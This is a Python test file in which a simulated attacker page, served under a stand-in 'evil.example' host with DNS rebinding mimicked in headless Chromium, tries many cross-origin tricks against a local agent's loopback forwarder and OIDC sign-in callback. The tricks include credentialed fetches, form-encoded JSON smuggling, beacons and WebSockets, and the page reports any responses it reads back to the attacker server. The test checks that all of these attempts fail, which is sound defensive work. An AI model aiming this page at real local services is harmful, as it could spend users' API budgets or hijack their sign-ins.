"""A page in a real browser tries everything against the agent's ports on loopback, under rebound names too."""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import subprocess
import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING
from urllib.parse import parse_qs, urlsplit

import pytest

from tests.agent.test_sign_in import needs_node, offer_of, read_url, say, start_login
from tests.lab.agent import Agent

if TYPE_CHECKING:
    from collections.abc import AsyncIterator, Iterator
    from pathlib import Path

    from tests.agent.small_gateway import SmallGateway
    from tests.lab.oidc_provider import OidcProvider

CHROMIUM = shutil.which("chromium") or shutil.which("google-chrome")
pytestmark = [needs_node, pytest.mark.skipif(not CHROMIUM, reason="needs Chromium")]
EVIL = "evil.example"
SECONDS = 60
PAGE = """<!doctype html><meta charset="utf-8"><title>hello</title><body><script>
const targets = %s, read = [], tried = [];
const body = '{"model":"m","max_tokens":1,"messages":[{"role":"user","content":"spent by a page"}]}';
async function attempt(name, options, url) {
  tried.push(name);
  try {
    const answer = await fetch(url, options);
    const text = await answer.text();
    if (answer.type !== 'opaque') read.push([name, url, answer.status, text]);
  } catch (error) { /* the browser refused, or we did */ }
}
function load(kind, url) {
  return new Promise(done => {
    tried.push(kind);
    const element = document.createElement(kind);
    element.onload = element.onerror = done;
    element.src = url;
    document.body.append(element);
    setTimeout(done, 3000);
  });
}
function post(url, fields, type) {
  tried.push('form');
  const form = document.createElement('form'), frame = document.createElement('iframe');
  frame.name = 'f' + tried.length; form.target = frame.name;
  form.method = 'post'; form.action = url; form.enctype = type;
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement('input'); input.name = name; input.value = value; form.append(input);
  }
  const sent = new Promise(done => { frame.onload = done; setTimeout(done, 3000); });
  document.body.append(frame, form); form.submit();
  return sent;
}
(async () => {
  for (const url of targets) {
    const plain = {'Content-Type': 'text/plain'}, json = {'Content-Type': 'application/json', 'x-api-key': 'guess'};
    await attempt('simple', {}, url);
    await attempt('opaque', {mode: 'no-cors', method: 'POST', body, headers: plain}, url);
    await attempt('cors', {method: 'POST', body, headers: json}, url);
    await attempt('silent', {method: 'POST', body, headers: plain, referrerPolicy: 'no-referrer'}, url);
    await attempt('cookies', {credentials: 'include'}, url);
    await Promise.all(['img', 'script', 'iframe'].map(kind => load(kind, url)));
    await post(url, {[body.slice(0, -1) + ',"x":"']: '"}'}, 'text/plain');
    await post(url, {state: 'guess', code: 'guess'}, 'application/x-www-form-urlencoded');
    tried.push('beacon'); navigator.sendBeacon(url, body);
    tried.push('socket'); try { new WebSocket(url.replace('http', 'ws')); } catch (error) {}
  }
  await fetch('/done', {method: 'POST', body: JSON.stringify({read, tried: tried.length})});
})();
</script>"""


class Attacker(ThreadingHTTPServer):
    """Serves the page, and is told how it went."""

    def __init__(self) -> None:
        self.page = b""
        self.told: dict[str, object] = {}
        self.finished = threading.Event()
        super().__init__(("127.0.0.1", 0), Handler)


class Handler(BaseHTTPRequestHandler):
    server: Attacker

    def do_GET(self) -> None:
        self.answer(self.server.page if self.path == "/" else b"")

    def do_POST(self) -> None:
        content = self.rfile.read(int(self.headers["Content-Length"]))
        self.answer(b"")
        if self.path == "/done":
            self.server.told = json.loads(content)
            self.server.finished.set()

    def answer(self, content: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    def log_message(self, *_: object) -> None:
        pass


@contextmanager
def attacker() -> Iterator[Attacker]:
    with Attacker() as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


def visit(url: str, folder: Path) -> subprocess.Popen[bytes]:
    """A browser for which every name below the attacker's domain is this machine, as after a rebinding."""
    assert CHROMIUM
    flags = ["--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", f"--user-data-dir={folder}"]
    flags += ["--disable-background-networking", "--disable-component-update", "--disable-dev-shm-usage"]
    flags += [f"--host-resolver-rules=MAP *.{EVIL} 127.0.0.1, MAP {EVIL} 127.0.0.1", "--disable-features=Translate"]
    # What a browser of today would stop by itself is let through: ours must hold without it.
    flags += ["--disable-web-security"] if folder.name == "old" else []
    env = {"PATH": os.environ["PATH"], "HOME": str(folder)}
    return subprocess.Popen([CHROMIUM, *flags, url], env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


@pytest.fixture
async def agent(tmp_path: Path, gateway: SmallGateway, oidc_provider: OidcProvider) -> AsyncIterator[Agent]:
    gateway.offers = (offer_of(oidc_provider),)
    running = Agent(tmp_path, gateway_url=gateway.url)
    await asyncio.to_thread(running.__enter__)
    yield running
    await asyncio.to_thread(running.__exit__, None, None, None)


@pytest.mark.parametrize("browser", ["today", "old"])
async def test_a_web_page_reaches_nothing(
    tmp_path: Path, agent: Agent, gateway: SmallGateway, oidc_provider: OidcProvider, browser: str
) -> None:
    """Neither the forwarder nor a sign-in that is under way; "old" is a browser that protects nobody."""
    await asyncio.to_thread(agent.sign_in, oidc_provider.person().sign_in)
    door = json.loads((await say(agent, "forward", "--json")).stdout)["forward"]
    port = urlsplit(door["url"]).port
    login = await start_login(agent)
    url = (await read_url(login))[-1]
    back = urlsplit(parse_qs(urlsplit(url).query)["redirect_uri"][0]).port
    hosts = ("127.0.0.1", "localhost", f"rebound.{EVIL}")
    targets = [f"http://{host}:{port}/v1/messages" for host in hosts]
    targets += [f"http://{host}:{back}/callback?state=guess&code=x" for host in hosts]
    with attacker() as page:
        page.page = (PAGE % json.dumps(targets)).encode()
        # Also from the rebound name itself and its own port: there the page is of the same origin as the forwarder.
        visited = visit(f"http://{EVIL}:{page.server_port}/", tmp_path / browser)
        try:
            assert await asyncio.to_thread(page.finished.wait, SECONDS), "the page did not get to its end"
        finally:
            visited.kill()
            visited.wait()
        assert page.told["tried"] == 12 * len(targets)
        assert not [each for each in page.told["read"] if each[2] < 400], "a page has read an answer"  # type: ignore[attr-defined] # a list
        assert browser == "today" or page.told["read"], "the control: this browser does let pages read"
    assert gateway.asked == [], "nobody's budget was touched"
    assert login.returncode is None, "the sign-in under way goes on"
    await asyncio.to_thread(oidc_provider.person().sign_in, url)
    await login.communicate()
    assert login.returncode == 0
